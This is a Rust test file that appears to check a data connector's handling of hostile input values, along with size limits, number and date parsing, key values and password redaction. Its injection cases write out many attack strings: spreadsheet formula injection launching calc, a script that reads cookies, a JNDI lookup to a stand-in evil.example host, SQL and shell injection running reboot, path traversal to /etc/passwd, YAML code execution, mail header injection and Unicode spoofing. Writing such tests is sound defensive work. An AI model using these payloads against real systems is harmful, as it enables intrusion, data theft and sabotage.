//! Values that are meant for whatever reads them next: a spreadsheet, a terminal, a page, a log, a shell.

use crate::case::Case;
use crate::documents::{row, user, user_with, users};
use crate::program::PASSWORD;
use crate::server::Answer;
use serde_json::{Value as Json, json};

pub(crate) fn cases() -> Vec<Case> {
    [injections(), sizes(), typed(), keys(), secrets()].into_iter().flatten().collect()
}

/// One user, whose first name is this text.
fn one(first: &str) -> Answer {
    let first = first.replace("]]>", "]]]]><![CDATA[>");
    Answer::good(users(&user("one", &format!("<![CDATA[{first}]]>"))))
}

fn injections() -> Vec<Case> {
    let all = [
        ("a formula", "=HYPERLINK(\"http://evil.example\",\"x\")"),
        ("a formula with a sign", "+1+cmd|' /C calc'!A0"),
        ("a formula below zero", "-2+3+cmd|' /C calc'!A0"),
        ("a formula of a function", "@SUM(1+1)*cmd|' /C calc'!A0"),
        ("a formula after a tab", "x\t=1+1"),
        ("a formula after a line end", "x\n=1+1"),
        ("a formula after a semicolon", "x;=1+1"),
        ("a formula in full width", "\u{ff1d}1+1"),
        ("a formula after an apostrophe", "'=1+1"),
        ("a formula after a quote", "\"=1+1"),
        ("a formula after what is invisible", "\u{200b}=1+1"),
        ("a cell of another row", "a\",\"b\r\nc,d"),
        ("a script", "<script>alert(document.cookie)</script>"),
        ("an image with a script", "\"><img src=x onerror=alert(1)>"),
        ("a template", "{{7*7}}${7*7}<%= 7*7 %>#{7*7}"),
        ("a look-up of a log", "${jndi:ldap://evil.example/a}"),
        ("SQL", "Robert'); DROP TABLE students;--"),
        ("a shell", "$(reboot) `reboot` ; reboot | reboot && reboot"),
        ("a format", "%s%s%s%n%x {} {0} {:?}"),
        ("a path", "../../../../etc/passwd\\..\\..\\windows"),
        ("JSON", "\",\"username\":\"root\",\"x\":\""),
        ("a JSON object", "{\"a\":[1,2,{\"__proto__\":{\"x\":1}}]}"),
        ("NDJSON", "a\"}\n{\"username\":\"root"),
        ("YAML", "- !!python/object/apply:os.system ['id']"),
        ("a link", "[x](javascript:alert(1)) ![x](http://evil.example/x.png)"),
        ("a mail", "a\r\nBcc: b@evil.example\r\n\r\n."),
        ("a line separator", "a\u{2028}b\u{2029}c\u{85}d"),
        ("letters from right to left", "abc\u{202e}fdp.exe"),
        ("isolates", "a\u{2066}b\u{2069}c\u{200f}"),
        ("letters without width", "a\u{200b}\u{200d}\u{2060}\u{feff}b"),
        ("marks upon marks", "Z\u{310}\u{311}\u{312}\u{313}\u{314}\u{315}\u{316}\u{317}"),
        ("letters that look alike", "\u{430}\u{501}m\u{456}n"),
        ("tags of letters", "a\u{e0041}\u{e0042}\u{e007f}"),
        ("variation selectors", "a\u{fe0f}\u{e0100}"),
        ("a terminal's C1", "a\u{9b}2J\u{9d}0;x\u{9c}"),
        ("private letters", "\u{e000}\u{f8ff}\u{10fffd}"),
        ("emoji", "\u{1f468}\u{200d}\u{1f469}\u{200d}\u{1f467}"),
        ("what stands for absent", "(absent)"),
        ("null", "null"),
        ("true", "true"),
        ("not a number", "NaN"),
        ("a number", "007"),
        ("a date", "2026-11-01"),
    ];
    let mut cases: Vec<Case> = all
        .iter()
        .map(|(what, text)| Case::rows(format!("value: {what}"), one(text), row("one", *text)))
        .collect();
    // XML has no such characters, however they are written.
    let replaced = [
        ("escape sequences", "a&#27;[2Jb&#27;]52;c;aGk=&#7;", "a\u{fffd}[2Jb\u{fffd}]52;c;aGk=\u{fffd}"),
        ("a bell and a backspace", "a&#7;&#8;&#127;", "a\u{fffd}\u{fffd}\u{7f}"),
        ("NUL", "a&#x0;b", "a\u{fffd}b"),
    ];
    cases.extend(replaced.iter().map(|(what, written, text)| {
        Case::rows(format!("value: {what}"), Answer::good(users(&user("one", written))), row("one", *text))
    }));
    cases
}

fn sizes() -> Vec<Case> {
    let mebibyte = 1 << 20;
    let many: String =
        (0..20_000).map(|it| format!("<ASSET_GROUP_TITLE>g{it}</ASSET_GROUP_TITLE>")).collect();
    let groups = |inside: &str| {
        Answer::good(users(&user_with(
            "one",
            &format!("<ASSIGNED_ASSET_GROUPS>{inside}</ASSIGNED_ASSET_GROUPS>"),
        )))
    };
    let titles: Vec<String> = (0..20_000).map(|it| format!("g{it}")).collect();
    vec![
        Case::rows("value of 100 KiB", one(&"a".repeat(100 << 10)), row("one", "a".repeat(100 << 10))),
        Case::rows("value of 1 MiB", one(&"b".repeat(mebibyte)), row("one", "b".repeat(mebibyte))),
        // Left absent, with a note.
        Case::rows("value of 1 MiB and a byte", one(&"c".repeat(mebibyte + 1)), row("one", Json::Null)),
        Case::rows("value of 7 MiB", one(&"d".repeat(7 * mebibyte)), row("one", Json::Null)),
        Case::error("value of 9 MiB", one(&"e".repeat(9 * mebibyte)), "is the limit"),
        Case::rows(
            "value of 1 MiB of references",
            Answer::good(users(&user("one", &"&#8364;".repeat(100_000)))),
            row("one", "\u{20ac}".repeat(100_000)),
        ),
        Case::rows(
            "twenty thousand values in a cell",
            groups(&many),
            vec![json!({ "asset-groups": titles })],
        ),
        Case::rows("no value in a cell of several", groups(""), vec![json!({ "asset-groups": Json::Null })]),
    ]
}

fn typed() -> Vec<Case> {
    let cell = |element: &str, written: &str, field: &str, value: Json| {
        let answer = Answer::good(users(&user_with("one", &format!("<{element}>{written}</{element}>"))));
        let shown: String = written.chars().take(30).collect();
        Case::rows(
            format!("cell {field}: {shown:?}"),
            answer,
            vec![json!({ "username": "one", (field): value })],
        )
    };
    let id = |written: &str, value: Json| cell("USER_ID", written, "user-id", value);
    let created = |written: &str, value: Json| cell("CREATION_DATE", written, "created", value);
    vec![
        id("9223372036854775807", json!(i64::MAX)),
        id("-9223372036854775808", json!(i64::MIN)),
        id("9223372036854775808", Json::Null),
        id("99999999999999999999999999", Json::Null),
        id(&"9".repeat(100_000), Json::Null),
        id("1e9", Json::Null),
        id("0x10", Json::Null),
        id("1_000", Json::Null),
        id("1.0", Json::Null),
        id("\u{661}\u{662}", Json::Null),
        id("NaN", Json::Null),
        id("=1+1", Json::Null),
        id("-0", json!(0)),
        created("2026-02-30T00:00:00Z", Json::Null),
        created("2026-13-01T00:00:00Z", Json::Null),
        created("2026-11-01T24:00:00Z", Json::Null),
        created("9999-12-31T23:59:59Z", json!("9999-12-31T23:59:59Z")),
        created("10000-01-01T00:00:00Z", Json::Null),
        created("0000-01-01T00:00:00Z", json!("0000-01-01T00:00:00Z")),
        created("-000001-01-01T00:00:00Z", Json::Null),
        created("+275760-09-13T00:00:00Z", Json::Null),
        created("2026-11-01T00:00:00+99:00", Json::Null),
        created("2026-11-01T00:00:00+01:00", json!("2026-10-31T23:00:00Z")),
        created("yesterday", Json::Null),
        created("1793491200", Json::Null),
        created("'; DROP TABLE users", Json::Null),
        created(&"2".repeat(100_000), Json::Null),
    ]
}

fn keys() -> Vec<Case> {
    let named = |login: &str| Answer::good(users(&user(login, "Ada")));
    let kept = |login: &str| vec![json!({ "username": login })];
    let long = "k".repeat(100 << 10);
    vec![
        Case::rows("key: a path", named("../../etc/passwd"), kept("../../etc/passwd")),
        Case::rows("key: an absolute path", named("/etc/passwd"), kept("/etc/passwd")),
        Case::rows("key: a formula", named("=1+1"), kept("=1+1")),
        Case::rows("key: letters from right to left", named("a\u{202e}b"), kept("a\u{202e}b")),
        Case::rows("key: a line end", named("a&#10;b"), kept("a\nb")),
        Case::rows("key: of 100 KiB", named(&long), kept(&long)),
        Case::rows(
            "key: none, beside one",
            Answer::good(users(&("<USER/>".to_owned() + &user("one", "Ada")))),
            kept("one"),
        ),
        Case::rows("key: none at all", Answer::good(users("<USER/><USER/>")), vec![]),
    ]
}

/// What a source says back of what was sent to it.
fn secrets() -> Vec<Case> {
    let mark = "[redacted]";
    let said = |first: &str| Answer::good(users(&user("one", first)));
    vec![
        Case::rows("secret: a value", said(PASSWORD), row("one", mark)),
        Case::rows("secret: in a value", said(&format!("a {PASSWORD} b")), row("one", format!("a {mark} b"))),
        Case::rows("secret: in a section", said(&format!("<![CDATA[{PASSWORD}]]>")), row("one", mark)),
        Case::error(
            "secret: in an error",
            Answer::with(
                "401 Unauthorized",
                "",
                format!(
                    "<SIMPLE_RETURN><RESPONSE><CODE>2000</CODE><TEXT>Bad password {PASSWORD}</TEXT></RESPONSE></SIMPLE_RETURN>"
                ),
            ),
            "Bad password [redacted]",
        ),
    ]
}
